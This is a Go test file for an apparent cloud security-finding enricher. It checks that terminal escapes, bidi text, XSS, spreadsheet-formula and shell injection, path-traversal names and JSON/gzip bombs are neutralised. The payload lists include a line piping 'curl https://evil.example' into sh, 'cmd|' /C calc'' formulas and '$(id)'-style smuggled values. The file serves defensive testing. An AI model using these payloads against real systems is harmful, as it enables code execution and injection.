package main

import (
	"bytes"
	"compress/gzip"
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"unicode"

	"cloud.google.com/go/securitycenter/apiv2/securitycenterpb"
	"mvdan.cc/sh/v3/syntax"

	"github.com/scc-enricher/scc-enricher/pkg/emulator"
	"github.com/scc-enricher/scc-enricher/pkg/push"
)

// hostileTexts try to be more than text: on a terminal, in a log, in HTML, in
// Markdown, in a spreadsheet, in a shell.
func hostileTexts() map[string]string {
	return map[string]string{
		"ANSI":            "\x1b[31mred\x1b[0m \x1b]0;title\x07",
		"8-bit control":   "\u009b31mred\u009d0;title\u009c",
		"CRLF":            "a\r\n{\"severity\":\"EMERGENCY\",\"message\":\"forged\"}\r\n",
		"line separators": "a\u2028b\u2029c\u0085d\v\f",
		"NUL":             "a\x00b\x7f",
		"bidi":            "invoice\u202egnp.exe\u2066x\u2069",
		"zero width":      "ev\u200bil\u2060.exam\ufeffple",
		"tags":            "a\U000e0041\U000e0042",
		"HTML":            "<img src=x onerror=alert(1)><script>alert(1)</script>",
		"Markdown":        "[click](https://evil.example/x) ![i](https://evil.example/p.png) `code` | cell |",
		"formula =":       "=HYPERLINK(\"https://evil.example/\"&A1)",
		"formula +":       "+1+cmd|' /C calc'!A0",
		"formula -":       "-2+3+cmd|' /C calc'!A0",
		"formula @":       "@SUM(1+1)*cmd|' /C calc'!A0",
		"formula ＝":       "＝cmd|' /C calc'!A0",
		"formula tab":     "\t=1+1",
		"shell":           "'; curl https://evil.example | sh; echo '$(id) `id`",
		"bad UTF-8":       "a\xff\xfe\xc0b",
	}
}

// hostileFinding has the text wherever the attacker inside the container, or
// the name of something, can put it.
func hostileFinding(id, text string) *securitycenterpb.Finding {
	f := newFinding(id)
	f.Category = text
	f.Description = text
	f.Containers[0].Name = text
	f.Containers[0].Uri = text
	for _, p := range f.Processes {
		quoted, err := json.Marshal(text)
		if err != nil {
			continue
		}
		p.Name, p.Args = text, []string{string(quoted), string(quoted)}
		if p.Binary != nil {
			p.Binary.Path = string(quoted)
		}
	}
	return f
}

// TestHostileTexts: whatever a text tries to be, it comes out as one harmless
// line of a mark, a log, a record and a page.
func TestHostileTexts(t *testing.T) {
	t.Parallel()
	for what, text := range hostileTexts() {
		t.Run(what, func(t *testing.T) {
			t.Parallel()
			w := newWorld(t)
			valid := strings.ToValidUTF8(text, "?") // protobuf takes no other
			addLog(t, w, valid)
			addLog(t, w, "error: "+valid)
			r := newRig(t, rigOptions{emulator: emulator.Options{World: w}})
			name, notification := r.add(hostileFinding("hostile", valid))
			if valid != text {
				notification = bytes.ReplaceAll(notification, []byte(valid), []byte(text))
			}
			r.want(notification, http.StatusNoContent, "written")
			marks := own(r.emu.Marks(name))
			if marks["enrich_command"] == "" {
				t.Errorf("no command: %v", marks)
			}
			for key, value := range marks {
				visible(t, "mark "+key, value)
				if strings.ContainsRune("=+-@＝＋－＠", []rune(value)[0]) {
					t.Errorf("a spreadsheet takes the mark %s for a formula: %s", key, value)
				}
			}
			var record any
			if err := json.Unmarshal(r.records.get()[0], &record); err != nil {
				t.Fatal(err)
			}
			texts(record, func(s string) { visible(t, "record", s) })
			for line := range strings.Lines(r.log.String()) {
				var fields map[string]any
				if err := json.Unmarshal([]byte(line), &fields); err != nil {
					t.Fatalf("no line of JSON: %q", line)
				}
				if fields["severity"] == "EMERGENCY" {
					t.Errorf("a forged line: %s", line)
				}
				texts(fields, func(s string) { visible(t, "log", s) })
			}
			pages(t, r, notification)
		})
	}
}

// pages prints the finding as text and as Markdown.
func pages(t *testing.T, r *rig, notification []byte) {
	t.Helper()
	file := filepath.Join(t.TempDir(), "notification.json")
	if err := os.WriteFile(file, notification, 0o600); err != nil {
		t.Fatal(err)
	}
	for _, form := range []string{"text", "markdown"} {
		code, out, errs := command(t.Context(), "", "enrich", "--output="+form, "--scc-endpoint="+r.api, "--logging-endpoint="+r.api, "--run-endpoint="+r.api, file)
		if code != exitDone {
			t.Fatalf("exit %d: %s", code, errs)
		}
		for line := range strings.Lines(out) {
			visible(t, form, strings.TrimRight(line, "\n"))
		}
		if form == "markdown" {
			for _, active := range []string{"<img", "<script", "](https://evil", "](http://evil"} {
				if bare := regexp.MustCompile("(?s)(`+)[^`].*?`+").ReplaceAllString(out, ""); strings.Contains(bare, active) {
					t.Errorf("%s is active in the Markdown: %s", active, bare)
				}
			}
		}
	}
}

// texts calls f for every text of a decoded JSON document.
func texts(v any, f func(string)) {
	switch v := v.(type) {
	case string:
		f(v)
	case []any:
		for _, e := range v {
			texts(e, f)
		}
	case map[string]any:
		for k, e := range v {
			f(k)
			texts(e, f)
		}
	}
}

// visible fails the test for a text with characters that are not seen, or do
// more than being seen.
func visible(t *testing.T, where, s string) {
	t.Helper()
	for _, r := range s {
		if unicode.Is(unicode.Cc, r) || unicode.Is(unicode.Cf, r) || unicode.Is(unicode.Zl, r) || unicode.Is(unicode.Zp, r) {
			t.Errorf("%U is in the %s: %q", r, where, s)
			return
		}
	}
}

// TestPathTricks: a name that is no name reaches no API.
func TestPathTricks(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	_, notification := r.add(newFinding("paths"))
	const project = "//run.googleapis.com/projects/" + testProject
	for _, resource := range []string{
		"//run.googleapis.com/projects/../locations/europe-west1/services/storefront",
		"//run.googleapis.com/projects/%2e%2e/locations/europe-west1/services/storefront",
		"//run.googleapis.com/projects/--impersonate-service-account=x/locations/europe-west1/services/storefront",
		"//run.googleapis.com/projects/-/locations/-/services/-",
		"//run.googleapis.com//projects/" + testProject + "/locations/europe-west1/services/storefront",
		project + "/locations/europe-west1/services/../../../secrets/key",
		project + "/locations/europe-west1/services/storefront/revisions/../../other",
		project + "/locations/europe-west1/services/storefront/",
		project + "/locations/europe-west1/services/a%2fb",
		project + "/locations/europe-west1/services/a;id",
		project + "/locations/europe-west1/services/$(id)",
		project + "/locations/europe-west1/services/a\nb",
		project + "/locations/europe-west1/services/--format=json",
		project + "/locations/europe-west1/services/a\" OR resource.type=\"gce_instance",
		project + "/locations/europe-west1/services/..",
		project + "/locations//services/storefront",
	} {
		data := edited(t, notification, func(f map[string]any) { f["resourceName"] = resource })
		r.untouched(func() { r.want(data, http.StatusNoContent, "not_a_container") })
	}
	for _, name := range []string{
		"organizations/1/sources/2/findings/..", "organizations/../sources/2/findings/x", "organizations/1/sources/2/findings/x/securityMarks",
		"organizations/1/sources/2/findings/x?updateMask=", "organizations/1/sources/-/findings/x", "//organizations/1/sources/2/findings/x",
		"organizations/1/sources/2/findings/x%2f..%2fy", "users/1/sources/2/findings/x", "organizations/1/sources/2/findings/x\n",
	} {
		data := edited(t, notification, func(f map[string]any) { f["name"], f["canonicalName"] = name, name })
		r.untouched(func() { r.want(data, http.StatusUnprocessableEntity, "no_finding") })
	}
}

// TestNamesInLookupsAndCommands: what an attacker's file, image or address is
// called ends up whole in a lookup's path and in one word of a command, or not
// at all.
func TestNamesInLookupsAndCommands(t *testing.T) {
	t.Parallel()
	lookup := regexp.MustCompile(`^/api/v3/(files/[0-9a-f]{64}|domains/[a-z0-9.-]+|ip_addresses/[0-9a-f.:]+|urls/[A-Za-z0-9_-]+)$`)
	tricks := []string{
		"../../users/me", "..%2f..%2fusers%2fme", "x?x-apikey=1", "--project=evil", "$(curl evil.example)", "`id`", "a b", "'; id; '", "\n id \n",
		"evil.example/../../x", "//evil.example", "\" OR \"\"=\"",
	}
	commands := 0
	for i, trick := range tricks {
		r := newRig(t, rigOptions{})
		f := newFinding(fmt.Sprintf("lookup%d", i))
		f.Processes[0].Binary.Sha256 = trick
		f.Files = []*securitycenterpb.File{{Path: trick, Size: 1, HashedSize: 1, Sha256: testHash[:60] + trick}}
		f.Indicator = &securitycenterpb.Indicator{Domains: []string{trick, "c2." + trick, "evil.example"}, IpAddresses: []string{trick}, Uris: []string{"http://" + trick}}
		f.Processes[0].Args = []string{`"curl"`, `"http://` + strings.ReplaceAll(strings.ReplaceAll(trick, `"`, `\"`), "\n", `\n`) + `/x"`}
		f.Containers[0].Name, f.Containers[0].Uri = trick, "registry.example/"+trick+"@sha256:"+testHash
		_, notification := r.add(f)
		notification = edited(t, notification, func(f map[string]any) { f["parentDisplayName"] = trick })
		r.want(notification, http.StatusNoContent, "written")
		for _, c := range r.emu.Calls() {
			if c.Path != "" && !lookup.MatchString(c.Path) {
				t.Errorf("looked up %q for %q", c.Path, trick)
			}
		}
		var rec struct {
			Plan []struct{ Command string }
		}
		if err := json.Unmarshal(r.records.get()[0], &rec); err != nil {
			t.Fatal(err)
		}
		for _, step := range rec.Plan {
			if step.Command != "" {
				commands++
				simple(t, step.Command)
			}
		}
	}
	if commands < len(tricks) {
		t.Errorf("%d commands were looked at", commands)
	}
}

// simple checks that a line of a plan is commands that do nothing but what
// their words say.
func simple(t *testing.T, line string) {
	t.Helper()
	file, err := syntax.NewParser(syntax.Variant(syntax.LangPOSIX)).Parse(strings.NewReader(line), "")
	if err != nil {
		t.Errorf("no shell command: %q: %v", line, err)
		return
	}
	syntax.Walk(file, func(n syntax.Node) bool {
		switch n := n.(type) {
		case *syntax.CmdSubst, *syntax.ParamExp, *syntax.ProcSubst, *syntax.ArithmExp, *syntax.Subshell, *syntax.FuncDecl:
			t.Errorf("a command that is expanded: %q", line)
		case *syntax.CallExpr:
			if len(n.Args) == 0 || n.Args[0].Lit() != "gcloud" {
				t.Errorf("not gcloud: %q", line)
			}
		}
		return true
	})
}

// TestBombs: bodies that are larger inside than outside, or that ask for more
// time than they took to send, are answered like any other.
func TestBombs(t *testing.T) {
	t.Parallel()
	r := newRig(t, rigOptions{})
	_, notification := r.add(newFinding("bombs"))
	var packed bytes.Buffer
	z := gzip.NewWriter(&packed)
	_, _ = z.Write(envelope(t, notification))
	_ = z.Close()
	req, err := http.NewRequestWithContext(t.Context(), http.MethodPost, r.url, &packed)
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Content-Encoding", "gzip")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	if err := resp.Body.Close(); err != nil || resp.StatusCode != http.StatusUnprocessableEntity {
		t.Errorf("a packed body is unpacked: status %d, %v", resp.StatusCode, err)
	}
	const most = push.MaxBody
	whole := func(open, inner, end string) []byte {
		n := (most - len(inner)) / (len(open) + len(end))
		return []byte(strings.Repeat(open, n) + inner + strings.Repeat(end, n))
	}
	for what, body := range map[string][]byte{
		"deep lists":     whole("[", "", "]"),
		"deep objects":   whole(`{"a":`, "1", "}"),
		"deep envelope":  whole(`{"message":`, "1", "}"),
		"deep finding":   whole(`{"finding":`, "1", "}"),
		"never closed":   bytes.Repeat([]byte(`{"finding":{"processes":[`), most/30),
		"one long text":  []byte(`{"finding":{"name":"` + strings.Repeat("a", most-100) + `"}}`),
		"many fields":    []byte(`{"finding":{` + strings.TrimSuffix(strings.Repeat(`"a":0,`, most/7), ",") + `}}`),
		"long numbers":   []byte(`{"finding":{"x":` + strings.Repeat("9", most-100) + `}}`),
		"many escapes":   []byte(`{"finding":{"name":"` + strings.Repeat(`\u0041`, most/7) + `"}}`),
		"long base64":    []byte(`{"message":{"data":"` + strings.Repeat("QUFB", most/5) + `"}}`),
		"spaces":         bytes.Repeat([]byte(" "), most),
		"half envelopes": bytes.Repeat([]byte(`{"message":"`), most/13),
	} {
		if got := r.post(body, ""); got != http.StatusUnprocessableEntity {
			t.Errorf("%s: status %d", what, got)
		}
	}
	// Texts that invite a backtracking or quadratic search, in a finding that is
	// otherwise in order, as large as fits.
	for i, unit := range []string{
		"a", "=", "-", "https://a:", "eyJhbGciOiJub25lIn0.", "--password ", "password=", "\\u0000", "$($(", "`", "((((", "{a,", "<<EOF ", "base64 -d|", "QUFB", "a@", "\\n", "'",
	} {
		name, notification := r.add(newFinding(fmt.Sprintf("slow%d", i)))
		long := strings.Repeat(unit, 4<<20/len(unit))
		data := bytes.Replace(notification, []byte(`id; uname -a`), []byte(long), 1)
		if len(data) < 4<<20 {
			t.Fatal("nothing was replaced")
		}
		if got := r.deliver(data); got != http.StatusNoContent {
			t.Errorf("%q: status %d: %s", unit, got, r.log.lastLine())
		}
		for key, value := range own(r.emu.Marks(name)) {
			if len([]rune(value)) > 4096 {
				t.Errorf("%q: the mark %s has %d bytes", unit, key, len(value))
			}
		}
	}
	for _, rec := range r.records.get() {
		if len(rec) > 1<<20 {
			t.Errorf("a record of %d bytes", len(rec))
		}
	}
}
